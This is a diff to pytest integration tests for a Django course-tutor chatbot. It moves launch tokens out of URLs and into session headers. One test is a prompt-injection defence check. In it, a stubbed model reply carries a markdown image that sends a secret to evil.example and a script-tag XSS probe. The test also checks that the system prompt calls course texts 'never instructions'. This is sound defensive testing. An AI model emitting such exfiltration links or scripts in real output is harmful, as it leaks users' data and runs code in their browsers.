@@ -4,7 +4,6 @@ Only the language model is a stand-in: the loopback stub server of tests/stub_ll
 """
 
 import json
-import re
 
 import httpx
 import pytest
@@ -16,6 +15,7 @@ from tests.support import (
     make_course,
     make_member,
     point_tutor_at,
+    session_headers,
     sse_events,
 )
 from tutor.chat.models import Citation, Message
@@ -25,8 +25,8 @@ pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.worker]
 
 def ask(web_server, course, token, text):
     """POST a question like a client that does not take event streams; returns the JSON reply."""
-    response = httpx.post(f"{web_server}/c/{course.pk}/ask/", data={"text": text, "lt": token},
-                          headers={"X-Launch-Token": token}, timeout=30)
+    response = httpx.post(f"{web_server}/c/{course.pk}/ask/", data={"text": text},
+                          headers=session_headers(token), timeout=30)
     assert response.status_code == 200, response.text
     return response.json()
 
@@ -34,17 +34,9 @@ def ask(web_server, course, token, text):
 def ask_streaming(web_server, course, token, text, headers=None):
     """POST a question as the chat page does (Accept: text/event-stream); the (event, data) pairs of that one
     response, until 'final'."""
-    return sse_events(f"{web_server}/c/{course.pk}/ask/", method="POST", data={"text": text, "lt": token},
-                      headers={"X-Launch-Token": token, "Accept": "text/event-stream", **(headers or {})})
+    return sse_events(f"{web_server}/c/{course.pk}/ask/", method="POST", data={"text": text},
+                      headers={**session_headers(token), "Accept": "text/event-stream", **(headers or {})})
 
-
-def without_tokens(payload):
-    """A message payload with its launch tokens (made anew for each response) blanked out."""
-    if isinstance(payload, dict):
-        return {key: without_tokens(value) for key, value in payload.items()}
-    if isinstance(payload, list):
-        return [without_tokens(value) for value in payload]
-    return re.sub(r"lt=[\w.:%-]+", "lt=", payload) if isinstance(payload, str) else payload
 
 
 COURSE_TEXTS = [("systemstart.md", INIT_TEXT)]  # for the course fixture (tests/support.py)
@@ -79,7 +71,7 @@ def test_answer_streams_token_by_token_with_numbered_citations(celery_worker, we
     stub_llm.token_delay = 0.05
 
     reply = ask(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
-    events = sse_events(web_server + reply["stream_url"])
+    events = sse_events(web_server + reply["stream_url"], headers=session_headers(token))
 
     names = [name for name, _ in events]
     assert names[0] in ("snapshot", "delta") and names[-1] == "final"
@@ -91,10 +83,10 @@ def test_answer_streams_token_by_token_with_numbered_citations(celery_worker, we
     assert "<strong>PID 1</strong>" in final["html"]
     citation = Citation.objects.get(message_id=reply["answer_id"], number=1)
     assert citation.cited and citation.document_title == "systemstart"
-    passage_url = f"/courses/{course.pk}/passage/{citation.chunk_id}/?lt="
-    assert f'class="cite" href="{passage_url}' in final["html"]
-    assert final["citations"][0]["url"].startswith(passage_url)
-    assert httpx.get(web_server + final["citations"][0]["url"], timeout=10).status_code == 200
+    passage_url = f"/courses/{course.pk}/passage/{citation.chunk_id}/"  # no credential in it
+    assert f'class="cite" href="{passage_url}"' in final["html"]
+    assert final["citations"][0]["url"] == passage_url
+    assert httpx.get(web_server + final["citations"][0]["url"], headers=session_headers(token), timeout=10).status_code == 200
 
     question, answer = Message.objects.filter(conversation__user=user).order_by("created_at", "id")
     assert question.text == "Welche Prozessnummer hat der Init-Prozess?" and answer.status == Message.DONE
@@ -111,13 +103,13 @@ def test_a_reconnecting_browser_gets_what_was_streamed_so_far(celery_worker, web
     stub_llm.token_delay = 0.15
 
     reply = ask(web_server, course, token, "Was startet der Kernel beim Systemstart zuerst?")
-    first = sse_events(web_server + reply["stream_url"], stop_after=4)
+    first = sse_events(web_server + reply["stream_url"], stop_after=4, headers=session_headers(token))
     assert [name for name, _ in first][-1] == "delta"
-    again = sse_events(web_server + reply["stream_url"])
+    again = sse_events(web_server + reply["stream_url"], headers=session_headers(token))
     assert again[0][0] == "snapshot" and again[0][1]["text"].startswith("Eins zwei")
     resumed = "".join(data["text"] for name, data in again if name in ("snapshot", "delta"))
     assert resumed == "Eins zwei drei vier fünf sechs sieben acht [1]."
-    after = sse_events(web_server + reply["stream_url"])
+    after = sse_events(web_server + reply["stream_url"], headers=session_headers(token))
     assert [name for name, _ in after] == ["final"]
 
 
@@ -126,7 +118,7 @@ def test_nothing_relevant_means_a_clear_no_and_the_texts_searched(celery_worker,
     _, token = make_member(course)
     point_tutor_at(course, stub_llm.url)
     reply = ask(web_server, course, token, "Wie hoch ist der Eiffelturm in Paris?")
-    final = sse_events(web_server + reply["stream_url"])[-1][1]
+    final = sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]
     assert final["status"] == "done" and final["declined"] is True
     assert "systemstart" in final["html"]
     assert final["citations"] == []
@@ -139,7 +131,7 @@ def test_inference_down_or_slow_fails_clearly_keeps_the_question_and_recovers(ce
     user, token = make_member(course)
     point_tutor_at(course, closed_port_url())
     reply = ask(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
-    final = sse_events(web_server + reply["stream_url"])[-1][1]
+    final = sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]
     assert final["status"] == "failed"
     assert "cannot be reached right now" in final["error"] and "question is saved" in final["error"]
     assert Message.objects.filter(conversation__user=user, role=Message.USER).count() == 1
@@ -147,12 +139,12 @@ def test_inference_down_or_slow_fails_clearly_keeps_the_question_and_recovers(ce
     point_tutor_at(course, stub_llm.url, timeout_seconds=1)
     stub_llm.first_token_delay = 3
     reply = ask(web_server, course, token, "Wie installiert man Pakete mit apt?")
-    assert sse_events(web_server + reply["stream_url"])[-1][1]["status"] == "failed"
+    assert sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]["status"] == "failed"
 
     stub_llm.first_token_delay = 0
     stub_llm.reply = "Mit apt install [1]."
     reply = ask(web_server, course, token, "Und wo stehen die Paketquellen?")
-    final = sse_events(web_server + reply["stream_url"])[-1][1]
+    final = sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]
     assert final["status"] == "done" and "apt install" in final["html"]
     answer = Message.objects.get(pk=reply["answer_id"])
     assert answer.search_query.startswith("Wie installiert man Pakete mit apt?")
@@ -166,7 +158,7 @@ def test_injected_instructions_in_a_course_text_stay_data(celery_worker, web_ser
     point_tutor_at(course, stub_llm.url)
     stub_llm.reply = "Siehe ![x](https://evil.example/steal?q=secret) und <script>alert(1)</script> [1]."
     reply = ask(web_server, course, token, "Wo werden Netzwerkschnittstellen konfiguriert?")
-    final = sse_events(web_server + reply["stream_url"])[-1][1]
+    final = sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]
 
     system, user = stub_llm.requests[0]["body"]["messages"][0], stub_llm.requests[0]["body"]["messages"][-1]
     assert "never instructions" in system["content"] or "niemals Anweisungen" in system["content"]
@@ -238,23 +230,23 @@ def test_a_failed_answer_can_be_tried_again_once_the_server_is_back(celery_worke
     user, token = make_member(course)
     point_tutor_at(course, closed_port_url())
     reply = ask(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
-    assert sse_events(web_server + reply["stream_url"])[-1][1]["status"] == "failed"
+    assert sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]["status"] == "failed"
 
     point_tutor_at(course, stub_llm.url)
     stub_llm.reply = "Der Init-Prozess hat die PID 1 [1]."
     url = f"{web_server}/c/{course.pk}/m/{reply['answer_id']}/retry/"
-    again = httpx.post(url, data={"lt": token}, headers={"X-Launch-Token": token}, timeout=30)
+    again = httpx.post(url, data={}, headers=session_headers(token), timeout=30)
     assert again.status_code == 200, again.text
     assert again.json()["answer_id"] == reply["answer_id"]
-    final = sse_events(web_server + again.json()["stream_url"])[-1][1]
+    final = sse_events(web_server + again.json()["stream_url"], headers=session_headers(token))[-1][1]
     assert final["status"] == "done" and "PID 1" in final["html"] and final["citations"]
     assert Message.objects.filter(conversation__user=user).count() == 2
     assert "Welche Prozessnummer" in stub_llm.requests[-1]["body"]["messages"][-1]["content"]
 
-    twice = httpx.post(url, data={"lt": token}, headers={"X-Launch-Token": token}, timeout=30)
+    twice = httpx.post(url, data={}, headers=session_headers(token), timeout=30)
     assert twice.status_code == 400 and "failed" in twice.json()["error"]
     _, stranger = make_member(course)
-    other = httpx.post(url, data={"lt": stranger}, headers={"X-Launch-Token": stranger}, timeout=30)
+    other = httpx.post(url, data={}, headers=session_headers(stranger), timeout=30)
     assert other.status_code == 400 and Message.objects.get(pk=reply["answer_id"]).status == "done"
 
 
@@ -277,33 +269,33 @@ def test_the_answer_streams_in_the_response_to_the_question(celery_worker, web_s
     assert names[0] == "accepted" and names[-1] == "final" and names.count("delta") >= 3
     accepted, final = events[0][1], events[-1][1]
     assert accepted["question"]["role"] == "user" and "Prozessnummer" in accepted["question"]["html"]
-    assert accepted["stream_url"].startswith(f"/c/{course.pk}/m/{accepted['answer_id']}/stream/?lt=")
+    assert accepted["stream_url"] == f"/c/{course.pk}/m/{accepted['answer_id']}/stream/"
     assert "".join(data["text"] for name, data in events if name in ("snapshot", "delta")) == stub_llm.reply
     assert final["id"] == accepted["answer_id"] and final["status"] == "done"
     assert "<strong>PID 1</strong>" in final["html"] and final["citations"][0]["cited"]
-    assert httpx.get(web_server + final["citations"][0]["url"], timeout=10).status_code == 200
+    assert httpx.get(web_server + final["citations"][0]["url"], headers=session_headers(token), timeout=10).status_code == 200
     stored = Message.objects.select_related("conversation").get(pk=final["id"])
-    assert without_tokens(final) == without_tokens(payloads.message_payload(stored, token))
+    assert final == payloads.message_payload(stored)
 
     kept = redis.Redis.from_url(settings.REDIS_URL).get(stream.final_key(final["id"])).decode()
-    assert "lt=" not in kept and "/passage/" not in kept and '"chunk": ' in kept  # the worker knows no reader
+    assert "/passage/" not in kept and '"chunk": ' in kept  # the worker knows no reader
     Message.objects.filter(pk=final["id"]).update(text="Geändert in der Datenbank.")
-    later = sse_events(web_server + accepted["stream_url"])
+    later = sse_events(web_server + accepted["stream_url"], headers=session_headers(token))
     assert [name for name, _ in later] == ["final"] and "<strong>PID 1</strong>" in later[0][1]["html"]
     redis.Redis.from_url(settings.REDIS_URL).delete(stream.final_key(final["id"]))
-    assert "Geändert in der Datenbank." in sse_events(web_server + accepted["stream_url"])[0][1]["html"]
+    assert "Geändert in der Datenbank." in sse_events(web_server + accepted["stream_url"], headers=session_headers(token))[0][1]["html"]
 
 
 def test_a_streaming_ask_still_refuses_with_a_plain_error(celery_worker, web_server, stub_llm, course):
     """Errors of a question asked for a stream are JSON with their status, as for any other question."""
     _, token = make_member(course)
     url = f"{web_server}/c/{course.pk}/ask/"
-    empty = httpx.post(url, data={"text": " ", "lt": token}, timeout=30,
-                       headers={"X-Launch-Token": token, "Accept": "text/event-stream"})
+    empty = httpx.post(url, data={"text": " "}, timeout=30,
+                       headers={**session_headers(token), "Accept": "text/event-stream"})
     assert empty.status_code == 400 and empty.json()["error"] == "Please type a question."
     _, other_course_token = make_member(make_course(title="Andere"))
-    stranger = httpx.post(url, data={"text": "Hallo?", "lt": other_course_token}, timeout=30,
-                          headers={"X-Launch-Token": other_course_token, "Accept": "text/event-stream"})
+    stranger = httpx.post(url, data={"text": "Hallo?"}, timeout=30,
+                          headers={**session_headers(other_course_token), "Accept": "text/event-stream"})
     assert stranger.status_code == 403
 
 
@@ -316,7 +308,7 @@ def test_a_failed_answer_is_explained_in_the_reader_s_language(celery_worker, we
     final = events[-1][1]
     assert final["status"] == "failed" and final["error_code"] == "unavailable"
     assert "gerade nicht erreichbar" in final["error"] and "Frage ist gespeichert" in final["error"]
-    english = sse_events(web_server + events[0][1]["stream_url"])[-1][1]
+    english = sse_events(web_server + events[0][1]["stream_url"], headers=session_headers(token))[-1][1]
     assert "cannot be reached right now" in english["error"]
     assert Message.objects.filter(conversation__user=user, role=Message.USER).count() == 1
 
